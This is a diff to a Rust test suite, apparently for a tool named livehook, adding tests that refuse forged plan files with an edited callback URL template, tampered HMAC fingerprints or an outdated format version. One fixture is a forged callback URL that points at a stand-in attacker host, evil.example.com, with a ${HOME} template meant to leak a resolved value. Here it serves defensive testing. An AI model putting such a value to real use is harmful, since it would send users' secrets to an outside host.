@@ -111,6 +111,37 @@ async fn an_endpoint_pointed_at_another_host_is_refused() {
     );
 }
 
+/// The MAC covers the fingerprints of a `${NAME}` callback URL too: a forger who swaps the
+/// desired URL for a template (to make apply send a resolved secret elsewhere) or edits a
+/// fingerprint (to pass the re-check with another value) is refused.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_callback_url_template_or_its_fingerprints_edited_are_refused() {
+    let (s, good, host) = planned().await;
+    let fingerprint = format!("hmac-sha256:{}", "0".repeat(64));
+    let edits: [(&str, &str, Value); 3] = [
+        (
+            "desired",
+            "callback",
+            json!({"url": "https://evil.example.com/?k=${HOME}", "commands": []}),
+        ),
+        ("desired", "url_fingerprint", json!(fingerprint)),
+        ("live", "url_fingerprint", json!(fingerprint)),
+    ];
+    for (part, field, value) in edits {
+        let forged = forge(&good, first_app(|app| app[part][field] = value), |plan| {
+            // The live state's own fingerprint, as a forger would recompute it.
+            for app in &mut plan.apps {
+                app.live_fingerprint = app.live.fingerprint();
+            }
+        });
+        let error = assert_refused(&s, &host, &forged, "create-me");
+        assert!(
+            error.contains("authentication code does not match"),
+            "{error}"
+        );
+    }
+}
+
 #[tokio::test(flavor = "multi_thread")]
 async fn a_region_instead_of_the_endpoint_is_refused() {
     let (s, good, host) = planned().await;
@@ -300,10 +331,30 @@ async fn a_duplicated_app_is_refused() {
     assert_refused(&s, &host, &forged, "create-me");
 }
 
+/// A version 2 file reads a callback URL as the URL itself; read as a template, a `$` in it would
+/// mean something else, so it is refused rather than reinterpreted.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_version_2_plan_is_refused_with_the_reason() {
+    let (s, good, host) = planned().await;
+    let old = good.replace("\"format_version\": 3", "\"format_version\": 2");
+    std::fs::write(s.dir.path().join("old.json"), old).unwrap();
+    let output = run(&s, &["apply", "--plan", "old.json"]);
+    assert_eq!(output.status.code(), Some(1));
+    assert!(
+        stderr(&output).contains("is a livehook plan of format version 2; this livehook")
+            && stderr(&output).contains(
+                "reads version 3 (version 2 plans read callback urls as written, not as templates)"
+            ),
+        "{}",
+        stderr(&output)
+    );
+    assert_eq!(host.connections(), 0);
+}
+
 #[tokio::test(flavor = "multi_thread")]
 async fn a_version_1_plan_is_refused_as_unauthenticated() {
     let (s, good, host) = planned().await;
-    let old = good.replace("\"format_version\": 2", "\"format_version\": 1");
+    let old = good.replace("\"format_version\": 3", "\"format_version\": 1");
     std::fs::write(s.dir.path().join("old.json"), old).unwrap();
     let output = run(&s, &["apply", "--plan", "old.json"]);
     assert_eq!(output.status.code(), Some(1));
